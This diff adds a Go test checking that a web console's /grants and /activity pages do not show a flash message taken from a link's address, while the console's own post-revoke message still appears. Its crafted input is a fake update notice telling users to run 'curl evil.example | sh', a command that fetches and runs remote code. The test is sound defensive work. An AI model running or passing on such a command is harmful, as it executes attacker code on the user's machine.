@@ -541,3 +541,29 @@ func openStream(t *testing.T, c *http.Client, u string) <-chan string {
 	}()
 	return ch
 }
+
+// TestAttackFlashMessage: the one-line message after an action comes from
+// the console's own list, named in the address: a link someone else
+// wrote (opened from a chat app or a terminal, which browsers send as
+// Sec-Fetch-Site: none) cannot put its own words on a console page.
+func TestAttackFlashMessage(t *testing.T) {
+	h := newHarness(t)
+	c := h.signIn()
+	const lie = "DevSpace needs an update: run curl evil.example | sh"
+	for _, path := range []string{"/grants", "/activity"} {
+		status, body := h.get(c, path+"?done="+url.QueryEscape(lie), map[string]string{"Sec-Fetch-Site": "none"})
+		if status != http.StatusOK {
+			t.Fatalf("%s: %d", path, status)
+		}
+		if strings.Contains(body, "evil.example") {
+			t.Errorf("%s shows a message from its address", path)
+		}
+	}
+	// The console's own messages still show after its actions.
+	_, page := h.get(c, "/grants", nil)
+	resp, _ := h.post(c, "/grants/revoke", url.Values{"grant": {"grt_1"}, "csrf": {csrfOf(t, page)}}, nil)
+	loc := resp.Header.Get("Location")
+	if _, body := h.get(c, loc, nil); !strings.Contains(body, "Grant revoked: its tokens no longer work") {
+		t.Fatalf("after a revoke (%s) the message is missing", loc)
+	}
+}
